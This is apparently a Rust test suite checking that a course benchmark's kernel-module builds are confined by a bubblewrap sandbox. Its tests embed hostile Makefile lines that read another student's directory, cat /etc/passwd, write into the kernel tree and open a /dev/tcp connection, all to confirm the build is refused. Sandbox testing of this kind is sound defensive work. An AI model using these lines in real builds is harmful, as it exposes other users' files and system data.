//! Module builds run in the bubblewrap box: a Makefile that reads another
//! directory, writes outside its copy or reaches the kernel tree fails with
//! the reason and leaves nothing behind on this host; the source directory
//! is never written; modules are found through kbuild's modules.order
//! wherever the Makefile puts them. Needs the lab kernel tree (CI has it:
//! DMBENCH_REQUIRE_VM=1 makes a missing one a failure).

use crate::common;
use crate::common::repo;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

fn kdir() -> Option<PathBuf> {
    match dmbench::kernel::find_cached() {
        Some(k) => Some(k.tree()),
        None => {
            assert!(!common::vm_required(), "the lab kernel must be built here");
            eprintln!("SKIPPED (no lab kernel; run scripts/dev.sh setup)");
            None
        }
    }
}

/// A C module source: the course's first target, with `makefile`.
fn source(dir: &Path, makefile: &str) -> PathBuf {
    let kmod = dir.join("kmod/c");
    std::fs::create_dir_all(&kmod).expect("mkdir");
    std::fs::copy(
        repo().join("assets/course/01-first-target/solution/kmod/c/first_target.c"),
        kmod.join("first_target.c"),
    )
    .expect("copy");
    std::fs::write(kmod.join("Makefile"), makefile).expect("makefile");
    kmod
}

/// Every file under `dir` with its contents: what "unchanged" means.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).expect("ls").flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                out.insert(path.clone(), std::fs::read(&path).unwrap_or_default());
            }
        }
    }
    out
}

fn build_err(kmod: &Path, kdir: &Path) -> String {
    match dmbench::kbuild::build(kmod, kdir, &mut |_| {}) {
        Ok(built) => panic!("{} built {:?}", kmod.display(), built.names()),
        Err(e) => format!("{e:#}"),
    }
}

#[test]
fn a_makefile_reading_another_directory_fails_and_leaks_nothing() {
    let Some(kdir) = kdir() else { return };
    let work = tempfile::tempdir().expect("tmp");
    let other = work.path().join("bob");
    std::fs::create_dir_all(&other).expect("mkdir");
    std::fs::write(other.join("answer.c"), "bob's work").expect("w");
    let leak = work.path().join("leak.txt");
    // The attack as it was tried: a $(shell) that runs while make reads
    // the Makefile, whatever the build then does.
    let kmod = source(
        &work.path().join("alice"),
        &format!(
            "LEAK := $(shell id > {leak}; ls {other} >> {leak})\nobj-m := first_target.o\n",
            leak = leak.display(),
            other = other.display()
        ),
    );
    let before = snapshot(&kmod);
    let err = build_err(&kmod, &kdir);
    assert!(err.contains("reached outside its box"), "{err}");
    assert!(err.contains(&other.display().to_string()), "{err}");
    assert!(!leak.exists(), "the box's /tmp is its own");
    assert_eq!(snapshot(&kmod), before, "the source is never written");
}

#[test]
fn host_files_the_kernel_tree_and_the_network_are_out_of_reach() {
    let Some(kdir) = kdir() else { return };
    let work = tempfile::tempdir().expect("tmp");
    let planted = kdir.join("dmbench-box-test");
    for (makefile, said) in [
        ("X := $(shell cat /etc/passwd)\n", "/etc/passwd"),
        (
            &format!("X := $(shell touch {})\n", planted.display()) as &str,
            "Read-only file system",
        ),
        (
            "X := $(shell bash -c 'echo > /dev/tcp/192.0.2.1/80')\n",
            "Network is unreachable",
        ),
    ] {
        let kmod = source(
            &work.path().join(format!("s{}", said.len())),
            &format!("{makefile}obj-m := first_target.o\n"),
        );
        let err = build_err(&kmod, &kdir);
        assert!(err.contains("reached outside its box"), "{makefile}: {err}");
        assert!(err.contains(said), "{makefile}: {err}");
    }
    assert!(!planted.exists(), "the kernel tree is read-only in the box");
}

#[test]
fn modules_are_found_wherever_the_makefile_puts_them() {
    let Some(kdir) = kdir() else { return };
    let work = tempfile::tempdir().expect("tmp");
    let kmod = work.path().join("kmod/c");
    std::fs::create_dir_all(kmod.join("source")).expect("mkdir");
    let c = std::fs::read_to_string(
        repo().join("assets/course/01-first-target/solution/kmod/c/first_target.c"),
    )
    .expect("read");
    std::fs::write(kmod.join("source/dmp.c"), c.replace("first_target", "dmp")).expect("w");
    std::fs::write(kmod.join("other.c"), c.replace("first_target", "other")).expect("w");
    // The layout of a real hand-in: the module in a subdirectory, and a
    // second object beside it.
    std::fs::write(kmod.join("Makefile"), "obj-m = source/dmp.o other.o\n").expect("w");
    let before = snapshot(&kmod);
    let built = dmbench::kbuild::build(&kmod, &kdir, &mut |_| {}).expect("builds");
    let mut names = built.names();
    names.sort();
    assert_eq!(names, ["dmp", "other"]);
    for (_, path, _) in built.all() {
        assert!(path.is_file(), "{}", path.display());
        assert!(!path.starts_with(&kmod), "kept in the module cache");
    }
    assert_eq!(snapshot(&kmod), before, "nothing is built in the source");
    // Built once: the second build is the cache's.
    let again = dmbench::kbuild::build(&kmod, &kdir, &mut |_| {}).expect("builds");
    assert!(again.cached);
}

#[test]
fn without_bubblewrap_a_build_is_refused_with_the_reason() {
    let work = tempfile::tempdir().expect("tmp");
    let kmod = source(work.path(), "obj-m := first_target.o\n");
    let bin = work.path().join("bin");
    std::fs::create_dir(&bin).expect("mkdir");
    // make is there, bwrap is not.
    std::os::unix::fs::symlink("/usr/bin/make", bin.join("make")).expect("ln");
    let out = Command::new(env!("CARGO_BIN_EXE_dmbench"))
        .arg("build")
        .arg(&kmod)
        .env("PATH", &bin)
        .output()
        .expect("dmbench runs");
    let text = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{text}");
    assert!(text.contains("bubblewrap is not installed"), "{text}");
}
